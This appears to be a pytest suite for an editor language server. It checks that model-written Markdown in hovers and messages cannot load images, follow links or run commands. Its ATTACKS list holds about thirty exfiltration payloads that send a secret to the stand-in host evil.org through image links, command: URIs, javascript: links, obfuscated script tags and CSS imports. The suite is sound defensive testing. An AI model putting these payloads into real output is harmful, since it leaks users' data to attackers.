"""Nothing that a model says can be clicked, loaded or run in a hover or a message (D27)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lsp_server.agent.safety.shown import message, shown
from lsp_server.markup import markdown, plain


class Seen(HTMLParser):
    """The elements and addresses of rendered Markdown."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.languages: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        for name, value in attrs:
            assert name == "class", f"an element has {name}"
            self.languages.add((value or "").removeprefix("language-"))

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(text: str) -> Seen:
    """As a client would render it that allows everything: HTML, tables, links made of bare addresses."""
    renderer = MarkdownIt("gfm-like", {"html": True, "linkify": True})
    return Seen(renderer.render(markdown(shown(text))))


SAFE = {
    "p",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "hr",
    "em",
    "strong",
    "blockquote",
    "br",
    "h1",
    "h2",
    "s",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
SECRET = "4711-secret"

ATTACKS = [
    f"![x](https://evil.org/?q={SECRET})",
    f"![x](<https://evil.org/?q={SECRET}>)",
    f"![x][1]\n\n[1]: https://evil.org/?q={SECRET}",
    f"[click](https://evil.org/?q={SECRET})",
    f"[click](command:workbench.action.terminal.sendSequence?{SECRET})",
    f"[click](file:///etc/{SECRET})",
    f"[click](javascript:alert({SECRET!r}))",
    f"[click](vscode://evil/{SECRET})",
    f"[click][1]\n\n   [1]: <command:{SECRET}>",
    f"[![x](https://evil.org/{SECRET})](https://evil.org/{SECRET})",
    f"<https://evil.org/{SECRET}>",
    f"see https://evil.org/?q={SECRET} there",
    f"see HTTPS://EVIL.ORG/{SECRET}",
    f"www.evil.org/{SECRET}",
    f"mailto:{SECRET}@evil.org and ada+{SECRET}@evil.org",
    f"<img src='https://evil.org/{SECRET}'>",
    f"<img\nsrc=https://evil.org/{SECRET}\n>",
    f"<img src=https://evil.org/{SECRET}",
    f"<IMG/SRC='https://evil.org/{SECRET}'/>",
    f"<scr<b>ipt>fetch('https://evil.org/{SECRET}')</scr</b>ipt>",
    f"<svg><image href='https://evil.org/{SECRET}'/></svg>",
    f"<a href='command:{SECRET}'>x</a>",
    f"<style>@import 'https://evil.org/{SECRET}'</style>",
    f"<!-- {SECRET} -->",
    f"[x]<b></b>(https://evil.org/{SECRET})",
    f"![x]<!-- -->(https://evil.org/{SECRET})",
    f"[x\u200b](https://evil.org/{SECRET})",
    f"| a |\n|---|\n| ![x](https://evil.org/{SECRET}) |",
    f"# ![x](https://evil.org/{SECRET})\n- ![x](https://evil.org/{SECRET})\n> [x](https://evil.org/{SECRET})",
    f"`` ` ``![x](https://evil.org/{SECRET})`",
    f"```mermaid\ngraph LR; A-->B[<img src='x'>]\n```\n![x](https://evil.org/{SECRET})",
    f"a ```www.evil.org/{SECRET}",
    f"![x](https://evil.org/?q={SECRET})```www.evil.org/{SECRET}",
    f"~~~\n```\n~~~\n![x](https://evil.org/{SECRET})",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_d27_nothing_is_loaded_or_clicked(text: str) -> None:
    seen = rendered(text)
    assert seen.elements <= SAFE
    assert "mermaid" not in seen.languages
    written = markdown(shown(text))
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)!\[", written)
    assert "](" not in message(text)


@pytest.mark.parametrize(
    "text", [it for it in ATTACKS if it.startswith(("![x](h", "[click](", "<", "see ", "www.", "[![x]"))]
)
def test_d27_an_address_that_carries_something_is_not_even_shown(text: str) -> None:
    assert SECRET not in rendered(text).text + message(text)


@pytest.mark.parametrize(
    "language", ["mermaid", "math", "html", "svg", "Mermaid", "plantuml", "{mermaid}", "mermaid title=x"]
)
def test_d27_a_block_is_drawn_by_nobody(language: str) -> None:
    for fence in ("```", "~~~", "`````"):
        seen = rendered(f"{fence}{language}\ngraph LR\n{fence}\n")
        assert seen.languages == {"text"}
        assert "graph LR" in seen.text


def test_code_and_prose_stay_what_they_are() -> None:
    text = (
        "## What it does\n\n`HeroService.create` adds a **hero**, and `session.commit()` keeps it.\n"
        "- one_two *three*\n- list[int] < 3\n\n```python\nx = [1](2)  # https://fastapi.tiangolo.com\n```\n\nDone."
    )
    assert plain(shown(text)) == (
        "What it does\n\nHeroService.create adds a hero, and session.commit() keeps it.\n- one_two *three*\n"
        "- list[int] < 3\n\n    x = [1](2)  # https://fastapi.tiangolo.com\n\nDone.\n"
    )
    seen = rendered(text)
    assert "python" in seen.languages
    assert "Dict<str, Hero>" in rendered("a Dict<str, Hero> here").text
    assert message("It adds `create`.\r\n\r\nThen ```x``` it.") == "It adds create. Then x it."


def test_an_address_is_shown_by_its_host() -> None:
    assert plain(shown(f"See https://ada:pw@docs.example.org:443/x?q={SECRET}#y.")) == "See docs.example.org:443\n"
    assert plain(shown("Write to www.example.org/x or to file:///etc/passwd, or command:rm?x")) == (
        "Write to example.org or to (an address) or (an address)\n"
    )


def test_d27_control_characters_are_out() -> None:
    assert message("a\x1b[31mred\x07\x00 \u202eb\u2066c\U000e0041") == "a[31mred bc"
    assert shown("") == shown(" \n\n ") == ()


def test_d27_code_spans_side_by_side_stay_closed() -> None:
    assert rendered("www.evil.org`![x](https://evil.org/y)`www.evil.org").elements == {"p", "code"}


def test_d27_a_message_has_no_links_of_a_notification() -> None:
    assert message("half of [one](command:rm") == "half of [one] ((an address)"
    assert message("a](b") == "a] (b"


def test_d27_a_long_answer_is_cut_and_says_so() -> None:
    assert plain(shown("a" * 5_000)) == "a" * 4_000 + "\n\nThe rest, 1,000 characters, is not shown.\n"
    assert plain(shown("```\n" + "x\n" * 4_000)).endswith("more lines\n\nThe rest, 4,003 characters, is not shown.\n")
    assert message("word " * 100) == ("word " * 60)[:299].rstrip() + "…"
    assert len(message("x" * 5_000, longest=80)) == 80


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "```", "~~~", "`", "\n", "\n\n", "<", ">", "[", "]", "(", ")", "!", "\\", "a"]),
        max_size=12,
    )
)
def test_d27_no_mixture_gets_through(pieces: list[str]) -> None:
    text = "".join(pieces)
    seen = rendered(text)
    assert seen.elements <= SAFE
    assert "](" not in message(text)


@pytest.mark.parametrize(
    "text",
    ["<" * 4_000, "[" * 4_000, "`" * 3_999, "![" * 2_000, "*" * 4_000, "<a " * 1_300, "a@" * 2_000, "[x](" * 1_000],
)
def test_hostile_text_ends(text: str) -> None:
    assert rendered(text).elements <= SAFE
